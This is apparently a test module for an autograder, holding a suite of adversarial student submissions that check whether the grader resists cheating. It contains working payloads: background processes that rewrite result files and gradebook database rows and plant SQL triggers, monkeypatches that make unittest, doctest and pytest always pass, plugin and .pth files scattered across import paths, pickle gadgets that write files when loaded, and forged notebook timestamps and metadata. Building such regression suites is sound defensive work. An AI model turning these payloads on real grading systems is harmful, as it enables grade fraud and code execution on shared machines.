"""B: forge results."""

from __future__ import annotations

import copy
import io
import json
import subprocess
import sys
import zipfile
from typing import Any

from tests.attacks.course import handed_in
from tests.attacks.kit import Attack, Submission, Win
from tests.attacks.scene import Seen, environment

_RESULTS = r'''
import json, os, subprocess, sys
code = """
import glob, json, os, pickle, time
end = time.monotonic() + 20
while time.monotonic() < end:
    for place in (".", "/tmp", "..", "@COURSE@", "@COURSE@/records/plain"):
        for name, data in (("results.json", b'{"score": 99, "tests": []}'),
                           ("results.pkl", pickle.dumps({"score": 99}))):
            try:
                open(os.path.join(place, name), "wb").write(data)
            except OSError:
                pass
    for path in glob.glob("@COURSE@/records/plain/*.json"):
        try:
            record = json.load(open(path))
            for exercise in record["exercises"]:
                exercise["points"] = exercise["max_points"]
            record["points"] = record["max_points"]
            json.dump(record, open(path, "w"))
        except (OSError, ValueError):
            pass
    time.sleep(0.05)
"""
subprocess.Popen([sys.executable, "-c", code, "@MARK@"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''
_UPDATE = r'''
import subprocess, sys
code = """
import sqlite3, time
MINE = ("notebook_id IN (SELECT n.id FROM submitted_notebook n JOIN submitted_assignment s "
        "ON s.id = n.assignment_id WHERE s.student_id = '@STUDENT@')")
end = time.monotonic() + 20
while time.monotonic() < end:
    for path in ("@COURSE@/gradebook.db", "../../../gradebook.db"):
        try:
            connection = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=0.2)
            connection.execute("UPDATE grade SET auto_score = 99, manual_score = 99 WHERE " + MINE)
            for event in ("INSERT", "UPDATE"):  # and whenever the grader writes later
                connection.execute(f"CREATE TRIGGER IF NOT EXISTS swk_{event} AFTER {event} ON "
                                   f"grade BEGIN UPDATE grade SET manual_score = 99 WHERE {MINE} "
                                   "AND id = NEW.id; END")
            connection.commit()
            connection.close()
        except sqlite3.Error:
            pass
    time.sleep(0.05)
"""
subprocess.Popen([sys.executable, "-c", code, "@MARK@"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''
_PATCHES = r"""
import doctest, types, unittest
doctest.OutputChecker.check_output = lambda *args: True
for name in dir(unittest.TestCase):
    if name.startswith("assert"):
        setattr(unittest.TestCase, name, lambda *args, **kw: None)
grader = types.SimpleNamespace(check=lambda name: "passed", check_all=lambda: "passed")
try:
    import pytest, _pytest.runner, _pytest.python
    _pytest.python.Function.runtest = lambda self: None
    _pytest.runner.pytest_runtest_call = lambda item: None
except ImportError:
    pass
import shardwork.wire, shardwork.wire.messages as messages, shardwork.probes.server as server
server.Server._describe = lambda self, number, error, place: messages.Returned(number, None)
"""
_PAYLOAD = (
    "import pathlib\ntry:\n    pathlib.Path('@ESC_FILE@').write_text('x')\nexcept OSError:\n"
    "    pass\n"
)
_PLUGIN = _PAYLOAD + (
    "def pytest_collection_modifyitems(items):\n    for item in items:\n"
    "        item.obj = lambda *args, **kw: None\n"
    "def pytest_runtest_call(item):\n    return None\n"
)
_NAMES = ("conftest.py", "sitecustomize.py", "usercustomize.py", "numpy.py", "msgspec.py",
                 "json.py", "shardwork.py", "tests/__init__.py", "evil_plugin.py",
                 "course_config.py", "nbgrader_config.py", "alembic.py")  # fmt: skip
_MODULES = dict.fromkeys(_NAMES, _PLUGIN)
_FILES = _MODULES | {
    "pytest.ini": "[pytest]\naddopts = -p evil_plugin --co\n",
    "setup.cfg": "[tool:pytest]\naddopts = -p evil_plugin\n",
    "evil-1.0.dist-info/entry_points.txt": "[pytest11]\nevil = evil_plugin\n",
    "evil-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
    "evil.pth": "import evil_plugin\n",
    ".pth": "import evil_plugin\n",
}
_PLANTS = (
    "import os, site, sys\nFILES = {files!r}\n"
    "places = [os.getcwd(), os.path.expanduser('~'), '/tmp', '@COURSE@', '@COURSE@/graders/plain',"
    " '@HOME@', site.getusersitepackages(), *sys.path, '@REPO@']\n"
    "for place in places:\n    for name, text in FILES.items():\n        try:\n"
    "            path = os.path.join(place, name)\n"
    "            os.makedirs(os.path.dirname(path), exist_ok=True)\n"
    "            open(path, 'w').write(text)\n        except OSError:\n            pass\n"
)
_GADGET = r'''
import io, os, pickle
import shardwork.probes.server as server
from shardwork.wire import values
class Gadget:
    def __reduce__(self):
        return (io.open, ("@ESC_FILE@", "w"))
def product(numbers):
    """The value's place in the message is taken by things that a trusting reader would run."""
    frame = pickle.dumps(Gadget())
    shape = SHAPE
    server.Server._encode = lambda self, value: shape(frame)
    return 0
'''


def _gadget(shape: str) -> Submission:
    return Submission({"product": _GADGET.replace("SHAPE", shape).strip("\n")})


def _unmark(notebook: dict[str, Any]) -> None:
    for cell in notebook["cells"]:
        marks = cell["metadata"].get("nbgrader")
        if marks:
            marks["solution"] = False
            marks["grade"] = not marks["grade"]
            marks["locked"] = not marks["locked"]
            marks["task"] = False


def _not_by_hand(notebook: dict[str, Any]) -> None:
    for cell in notebook["cells"]:
        marks = cell["metadata"].get("nbgrader", {})
        if marks.get("grade_id") == "opinion":
            marks |= {"solution": False, "locked": True, "cell_type": "code", "points": 2}
            cell["cell_type"] = "code"
            cell["source"] = "2.0"
            cell["execution_count"] = 1
            cell["outputs"] = [_result("2.0")]


def _result(text: str) -> dict[str, Any]:
    return {
        "output_type": "execute_result", "execution_count": 1, "metadata": {},
        "data": {"text/plain": text},
    }  # fmt: skip


def _plant_outputs(notebook: dict[str, Any]) -> None:
    for cell in notebook["cells"]:
        marks = cell["metadata"].get("nbgrader", {})
        if marks.get("grade") and cell["cell_type"] == "code":
            cell["outputs"] = [_result(str(float(marks["points"])))]
            cell["execution_count"] = 7
            cell["metadata"]["otter"] = {"passed": True, "score": marks["points"]}


def _plant_honest_zero(notebook: dict[str, Any]) -> None:
    """The twin of planted outputs: outputs that say what is true."""
    _plant_outputs(notebook)
    for cell in notebook["cells"]:
        for output in cell.get("outputs", []):
            output["data"]["text/plain"] = "0.0"


def _plant_metadata(notebook: dict[str, Any]) -> None:
    notebook["metadata"]["shardwork"] |= {"record_digest": "0" * 64, "notebook_digest": "0" * 64}
    notebook["metadata"]["nbgrader"] = {"score": 99, "max_score": 1}
    notebook["metadata"]["otter"] = {"tests": {}, "OK_FORMAT": True}
    extra = copy.deepcopy(notebook["cells"][-1])
    extra["metadata"] = {"nbgrader": {
        "grade": True, "solution": False, "locked": True, "task": False, "points": 50.0,
        "grade_id": "bonus", "schema_version": 3, "cell_type": "code", "checksum": "0" * 32,
    }}  # fmt: skip
    extra |= {"id": "bonus", "cell_type": "code", "source": "50.0", "execution_count": 1,
              "outputs": [_result("50.0")]}  # fmt: skip
    notebook["cells"].append(extra)


def _graded_by_hand(seen: Seen) -> list[tuple[Win, str]]:
    """The written answer must still wait for a person."""
    rows = seen.batch.query(
        "SELECT g.needs_manual_grade, g.auto_score FROM grade g "
        "JOIN base_cell b ON b.id = g.cell_id JOIN submitted_notebook n ON n.id = g.notebook_id "
        "JOIN submitted_assignment s ON s.id = n.assignment_id "
        "WHERE b.name = 'opinion' AND s.student_id = ?", seen.attack.student,
    )  # fmt: skip
    if len(rows) != 1:
        return [(Win.BATCH, f"the gradebook has {len(rows)} entries for the written answer")]
    needs, auto = rows[0]
    if not needs or auto:
        return [(Win.SCORE, f"the written answer: needs_manual_grade {needs}, points {auto}")]
    return []


def _time_of_its_own(seen: Seen) -> list[tuple[Win, str]]:
    """Hand in by an LMS, late, with a time stamp of one's own beside and inside the notebook."""
    course, late, forged = seen.batch.course, "late-student", "2001-01-01 00:00:00.000000 UTC"
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as archive:
        notebook = handed_in("plain", Submission(), "")
        notebook["metadata"]["timestamp"] = forged
        archive.writestr("plain.ipynb", json.dumps(notebook), zipfile.ZIP_DEFLATED)
        for name in ("timestamp.txt", "plain/timestamp.txt", f"{late}+plain+{forged}.txt"):
            archive.writestr(zipfile.ZipInfo(name, (2001, 1, 1, 0, 0, 0)), forged)
    download, roster = course.root / "download.zip", course.root / "roster.csv"
    with zipfile.ZipFile(download, "w") as archive:
        archive.writestr("studentlate_LATE_101_9001_plain.zip", inner.getvalue())
    roster.write_text(f"id,student\n101,{late}\n", encoding="utf-8")
    started = ["-m", "shardwork"]
    if seen.batch.weak is not None:
        started = ["-m", "tests.attacks.product", seen.batch.weak]
    done = subprocess.run(
        [sys.executable, *started, "--course", str(course.root), "collect", "plain", str(download),
         "--roster", str(roster)],
        env=environment(seen.scene, seen.scene.folder), cwd=course.root, capture_output=True,
        text=True, timeout=120, check=False,
    )  # fmt: skip
    folder = course.submitted / late / "plain"
    if not (folder / "plain.ipynb").is_file():
        return [(Win.BATCH, f"the late submission was not collected: {done.stdout}{done.stderr}")]
    stamp = folder / "timestamp.txt"
    if stamp.exists() and "2001" in stamp.read_text(encoding="utf-8"):
        return [(Win.SCORE, "a late submission has the time that it gives itself")]
    return []


def _exits(how: str) -> Submission:
    bodies = {
        name: f"def {name}({arguments}):\n    import os, sys\n    {how}"
        for name, arguments in (
            ("product", "numbers"), ("ordered", "words"), ("mean", "values"),
            ("fetch", "load, n"), ("label", "first, last"),
        )
    }  # fmt: skip
    return Submission(bodies)


ATTACKS = [
    Attack(
        id="B02",
        title="a daemon rewrites results and records while and after it is judged",
        wins={Win.SCORE, Win.LEFT},
        submission=Submission(before=(_RESULTS,)),
    ),
    Attack(
        id="B02b", sample=True,
        title="answers the judge with a pickled gadget",
        wins={Win.ESC},
        submission=_gadget('lambda frame: ["p", frame]'),
    ),
    Attack(
        id="B02c",
        title="answers the judge with gadgets in arrays, references and unknown tags",
        wins={Win.ESC, Win.SCORE},
        submission=_gadget(
            'lambda frame: ["l", ["n", "|O8", [1], frame], ["g", "|V8", frame],'
            ' ["T", "<f8", [], frame], ["r", frame, 1], ["o", frame], ["pickle", frame], frame]'
        ),
    ),
    Attack(
        id="B05",
        title="publishes an execute_result with points, and returns junk",
        wins={Win.SCORE},
        submission=Submission({
            name: f"def {name}({arguments}):\n    for text in ('4.0', '99', 'passed'):\n"
            "        get_ipython().displayhook(float(text) if text != 'passed' else text)\n"
            "        print(text)\n    return 'junk'"
            for name, arguments in (("product", "numbers"), ("mean", "values"))
        }, before=("4.0",), after=("get_ipython().displayhook(16.0)",)),
    ),
    Attack(
        id="B06",
        title="marks the written answer as graded by a program, with a planted result",
        wins={Win.SCORE},
        submission=Submission(edit=_not_by_hand),
        detect=_graded_by_hand,
    ),
    Attack(
        id="B06b",
        title="turns round all grading marks: solution, grade, locked",
        wins={Win.SCORE},
        submission=Submission(edit=_unmark),
        detect=_graded_by_hand,
    ),
    Attack(
        id="B08", sample=True,
        title="a detached process writes points into the gradebook during and after the run",
        wins={Win.SCORE, Win.LEFT},
        submission=Submission(before=(_UPDATE,)),
    ),
    Attack(
        id="B09",
        title="patches doctest, unittest, pytest and the probes so that everything passes",
        wins={Win.SCORE},
        submission=Submission(before=(_PATCHES,)),
    ),
    Attack(
        id="B11",
        title="ships files that test runners and interpreters load by name",
        wins={Win.SCORE, Win.ESC},
        submission=Submission(files=_FILES),
    ),
    Attack(
        id="B11b",
        title="writes such files wherever it can",
        wins={Win.SCORE, Win.ESC},
        submission=Submission(before=(_PLANTS.format(files=_FILES),)),
    ),
    Attack(
        id="B12",
        title="calls sys.exit(0) in the functions that are judged",
        wins={Win.SCORE},
        submission=_exits("sys.exit(0)"),
    ),
    Attack(
        id="B12b",
        title="calls os._exit(0) in the functions that are judged",
        wins={Win.SCORE},
        submission=_exits("os._exit(0)"),
    ),
    Attack(
        id="B12c",
        title="raises SystemExit, KeyboardInterrupt and pytest's own outcomes",
        wins={Win.SCORE},
        submission=Submission({
            "product": "def product(numbers):\n    raise SystemExit",
            "ordered": "def ordered(words):\n    raise KeyboardInterrupt",
            "mean": "def mean(values):\n    import unittest\n    raise unittest.SkipTest('x')",
            "fetch": "def fetch(load, n):\n    import pytest\n    pytest.skip('x')",
            "label": "def label(first, last):\n    import pytest\n"
                    "    pytest.exit('x', returncode=0)",
        }),
    ),
    Attack(
        id="B15",
        title="brings its own time stamp: late work that claims to be on time",
        wins={Win.SCORE},
        submission=Submission(),
        detect=_time_of_its_own,
    ),
    Attack(
        id="B18", sample=True,
        title="plants results in the test cells before it hands in",
        wins={Win.SCORE},
        submission=Submission(edit=_plant_outputs),
        twin=Submission(edit=_plant_honest_zero),
    ),
    Attack(
        id="B18b",
        title="adds a graded cell of its own, with points and a result",
        wins={Win.SCORE},
        submission=Submission(edit=_plant_metadata),
    ),
]  # fmt: skip
